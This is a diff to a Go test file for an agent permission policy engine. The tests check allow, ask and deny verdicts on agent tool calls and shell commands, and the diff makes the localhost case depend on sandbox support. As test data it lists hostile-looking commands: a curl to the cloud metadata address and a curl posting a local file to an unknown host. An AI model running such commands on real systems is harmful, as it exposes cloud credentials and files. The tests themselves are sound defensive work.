@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"github.com/agentwarden/warden"
+	"github.com/agentwarden/warden/sandbox"
 )
 
 func openTestApp(t testing.TB, opt ...Options) *App {
@@ -32,14 +33,7 @@ func openTestApp(t testing.TB, opt ...Options) *App {
 // real store.
 func TestDefaultPolicyDecisions(t *testing.T) {
 	a := openTestApp(t)
-	cases := []struct {
-		name       string
-		req        warden.Request
-		want       warden.Verdict
-		wantRule   string
-		wantTier   warden.Tier
-		manualOnly bool
-	}{
+	cases := []policyCase{
 		{name: "tier 1 tool", req: warden.Request{Capability: "tool", Action: "call", Resource: "get_price"}, want: warden.Allow, wantRule: "tools.tier1", wantTier: 1},
 		{name: "tier 2 tool", req: warden.Request{Capability: "tool", Action: "call", Resource: "analyze_market"}, want: warden.Ask, wantRule: "tools.tier2", wantTier: 2},
 		{name: "tier 4 tool", req: warden.Request{Capability: "tool", Action: "call", Resource: "transfer_token"}, want: warden.Ask, wantRule: "safety.manual_only", wantTier: 4, manualOnly: true},
@@ -68,7 +62,9 @@ func TestDefaultPolicyDecisions(t *testing.T) {
 		{name: "shell fetches the metadata service", req: warden.Request{Capability: "shell", Action: "exec", Resource: "curl http://169.254.169.254/latest/meta-data/"}, want: warden.Deny, wantRule: "network.blocked_address", wantTier: 3},
 		{name: "shell posts a file to an unknown host", req: warden.Request{Capability: "shell", Action: "exec", Resource: "curl -d @file https://unknown.example"}, want: warden.Ask, wantRule: "network.unknown_domain", wantTier: 3},
 		{name: "shell fetches from a registry", req: warden.Request{Capability: "shell", Action: "exec", Resource: "curl -fsSL https://registry.npmjs.org/react"}, want: warden.Allow, wantTier: 3},
-		{name: "shell reaches a loopback port no rule names", req: warden.Request{Capability: "shell", Action: "exec", Resource: "curl http://localhost:3000"}, want: warden.Deny, wantRule: "network.private_address", wantTier: 3},
+		// Contained, localhost is the sandbox's own loopback: what the agent
+		// started there. Where no sandbox runs, it would be the host's.
+		loopbackCase(),
 		{name: "shell pushes", req: warden.Request{Capability: "shell", Action: "exec", Resource: "git push origin main"}, want: warden.Ask, wantRule: "shell.leaves_machine", wantTier: 3},
 		{name: "over per-tx max", req: warden.Request{Capability: "tool", Action: "call", Resource: "buy_token",
 			Params: map[string]json.RawMessage{"amount_usd": json.RawMessage("501")}}, want: warden.Deny, wantRule: "safety.max_transaction", wantTier: 3},
@@ -151,4 +147,25 @@ func BenchmarkDecide(b *testing.B) {
 		req := warden.Request{Capability: "tool", Action: "call", Resource: "get_price"}
 		p.Decide(ctx, &req)
 	}
+}
+
+// policyCase is one request of TestDefaultPolicyDecisions and its decision.
+type policyCase struct {
+	name       string
+	req        warden.Request
+	want       warden.Verdict
+	wantRule   string
+	wantTier   warden.Tier
+	manualOnly bool
+}
+
+// loopbackCase is what the default policy says about a loopback port no
+// rule names: allowed where commands run in a sandbox (its own loopback),
+// denied where they would run on the host.
+func loopbackCase() policyCase {
+	c := policyCase{name: "shell reaches a loopback port no rule names", req: warden.Request{Capability: "shell", Action: "exec", Resource: "curl http://localhost:3000"}, want: warden.Allow, wantTier: 3}
+	if sandbox.Supported() != nil {
+		c.want, c.wantRule = warden.Deny, "network.private_address"
+	}
+	return c
 }
